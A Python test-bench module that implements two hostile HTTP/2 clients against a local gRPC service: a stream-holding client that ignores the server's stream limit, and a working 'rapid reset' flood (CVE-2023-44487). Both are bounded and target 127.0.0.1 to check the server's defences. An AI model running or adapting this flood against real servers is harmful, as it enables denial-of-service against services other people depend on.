"""Hostile HTTP/2 clients for the fault tests, written with a real low-level HTTP/2 library (h2).

    python -m bench.h2_attacks hold --port P --connections 4 --streams 8 --seconds 4
    python -m bench.h2_attacks reset --port P --resets 100000 --seconds 10

``hold``: each connection opens ``--streams`` PlanRegimen streams at once, right after the
connection preface and before reading the server's SETTINGS (so it does not respect the
server's stream limit), sends their headers and never their request; it keeps reading (answering
pings) for ``--seconds`` and records how each stream ended: a gRPC status in the trailers (the
server's receive deadline gives DEADLINE_EXCEEDED, 4), a RST_STREAM (REFUSED_STREAM, 7, for
streams over the limit) or a GOAWAY.

``reset``: one connection opens streams and resets each at once (HEADERS then RST_STREAM
CANCEL), ``--resets`` times spread evenly over ``--seconds`` (the HTTP/2 "rapid reset" attack,
CVE-2023-44487); it stops early when the server closes the connection, and records whether a
GOAWAY came first.

Both print one JSON object with what they saw. They talk to 127.0.0.1 only and are bounded by
their counts and their time.
"""

from __future__ import annotations

import argparse
import dataclasses
import json
import socket
import sys
import time
from collections.abc import Sequence
from dataclasses import dataclass
from typing import Final

import h2.config
import h2.connection
import h2.events
import h2.exceptions

HOST: Final = "127.0.0.1"
PLAN_PATH: Final = "/b12.dosing.v1.DosingService/PlanRegimen"
_READ_BYTES: Final = 65536
_CANCEL: Final = 8  # HTTP/2 error code CANCEL


def _headers(port: int) -> list[tuple[str, str]]:
    return [
        (":method", "POST"),
        (":scheme", "http"),
        (":path", PLAN_PATH),
        (":authority", f"{HOST}:{port}"),
        ("content-type", "application/grpc"),
        ("te", "trailers"),
    ]


def _connect(port: int) -> tuple[socket.socket, h2.connection.H2Connection]:
    sock = socket.create_connection((HOST, port), timeout=5)
    connection = h2.connection.H2Connection(
        h2.config.H2Configuration(client_side=True, header_encoding="utf-8")
    )
    connection.initiate_connection()
    sock.sendall(connection.data_to_send())
    return sock, connection


@dataclass
class HoldResult:
    """How the held streams ended."""

    opened: int = 0
    statuses: dict[str, int] = dataclasses.field(default_factory=dict)
    resets: dict[str, int] = dataclasses.field(default_factory=dict)
    goaways: int = 0
    closed_connections: int = 0
    seconds_to_last_end: float = 0.0


def hold(port: int, connections: int, streams: int, seconds: float) -> HoldResult:
    """Open ``streams`` streams on each of ``connections`` connections, never send a request,
    and read for ``seconds``; return how the streams ended."""
    result = HoldResult()
    began = time.monotonic()
    opened = [_open_held(port, streams, result) for _ in range(connections)]
    live = list(opened)
    deadline = began + seconds
    while live and time.monotonic() < deadline:
        for pair in list(live):
            if not _read_held(*pair, result, began):
                result.closed_connections += 1
                live.remove(pair)
    for sock, _ in opened:
        sock.close()
    return result


def _open_held(
    port: int, streams: int, result: HoldResult
) -> tuple[socket.socket, h2.connection.H2Connection]:
    sock, connection = _connect(port)
    for _ in range(streams):
        connection.send_headers(connection.get_next_available_stream_id(), _headers(port))
        result.opened += 1
    sock.sendall(connection.data_to_send())
    sock.settimeout(0.05)
    return sock, connection


def _read_held(
    sock: socket.socket, connection: h2.connection.H2Connection, result: HoldResult, began: float
) -> bool:
    """Read what arrived on one connection; return False once the server has closed it."""
    try:
        data = sock.recv(_READ_BYTES)
    except TimeoutError:
        return True
    except OSError:
        data = b""
    if not data:
        return False
    for event in connection.receive_data(data):
        ended = _ending(event)
        if ended is None:
            continue
        kind, name = ended
        if kind == "goaway":
            result.goaways += 1
        else:
            tally = result.statuses if kind == "status" else result.resets
            tally[name] = tally.get(name, 0) + 1
        result.seconds_to_last_end = time.monotonic() - began
    pending = connection.data_to_send()
    if pending:
        sock.sendall(pending)
    return True


def _ending(event: h2.events.Event) -> tuple[str, str] | None:
    """Return how a stream or the connection ended, if ``event`` says so."""
    if isinstance(event, h2.events.TrailersReceived | h2.events.ResponseReceived):
        headers = {str(name): str(value) for name, value in event.headers or ()}
        status = headers.get("grpc-status")
        return ("status", str(status)) if status is not None else None
    if isinstance(event, h2.events.StreamReset) and event.remote_reset:
        return ("reset", str(event.error_code))
    if isinstance(event, h2.events.ConnectionTerminated):
        return ("goaway", str(event.error_code))
    return None


@dataclass
class ResetResult:
    """What the rapid-reset connection saw."""

    sent: int = 0
    seconds: float = 0.0
    goaway: bool = False
    goaway_error: str = ""
    closed: bool = False


def rapid_reset(port: int, resets: int, seconds: float) -> ResetResult:
    """Open and at once reset ``resets`` streams on one connection over ``seconds``."""
    result = ResetResult()
    sock, connection = _connect(port)
    sock.setblocking(False)  # noqa: FBT003 (the socket API)
    headers = _headers(port)
    began = time.monotonic()
    batch = 100
    while result.sent < resets and not result.closed:
        for _ in range(min(batch, resets - result.sent)):
            stream = connection.get_next_available_stream_id()
            connection.send_headers(stream, headers)
            connection.reset_stream(stream, error_code=_CANCEL)
            result.sent += 1
        try:
            sock.sendall(connection.data_to_send())
        except BlockingIOError:
            time.sleep(0.001)
        except OSError:
            result.closed = True
        _read_reset_answers(sock, connection, result)
        due = began + seconds * result.sent / resets
        if (wait := due - time.monotonic()) > 0:
            time.sleep(wait)
        if time.monotonic() - began > 2 * seconds:
            break
    result.seconds = time.monotonic() - began
    sock.close()
    return result


def _read_reset_answers(
    sock: socket.socket, connection: h2.connection.H2Connection, result: ResetResult
) -> None:
    while True:
        try:
            data = sock.recv(_READ_BYTES)
        except BlockingIOError:
            return
        except OSError:
            data = b""
        if not data:
            result.closed = True
            return
        try:
            events = connection.receive_data(data)
        except h2.exceptions.ProtocolError:
            result.closed = True
            return
        for event in events:
            if isinstance(event, h2.events.ConnectionTerminated):
                result.goaway = True
                result.goaway_error = str(event.error_code)
                result.closed = True


def main(argv: Sequence[str] | None = None) -> int:
    """Run one attack and print what it saw as JSON."""
    parser = argparse.ArgumentParser(prog="python -m bench.h2_attacks", description=__doc__)
    parser.add_argument("attack", choices=["hold", "reset"])
    parser.add_argument("--port", type=int, required=True)
    parser.add_argument("--connections", type=int, default=1)
    parser.add_argument("--streams", type=int, default=8)
    parser.add_argument("--resets", type=int, default=100_000)
    parser.add_argument("--seconds", type=float, default=10.0)
    arguments = parser.parse_args(argv)
    if arguments.attack == "hold":
        found: object = hold(
            arguments.port, arguments.connections, arguments.streams, arguments.seconds
        )
    else:
        found = rapid_reset(arguments.port, arguments.resets, arguments.seconds)
    print(json.dumps(dataclasses.asdict(found)), flush=True)  # type: ignore[call-overload] # (a dataclass, either kind)
    return 0


if __name__ == "__main__":
    sys.exit(main())
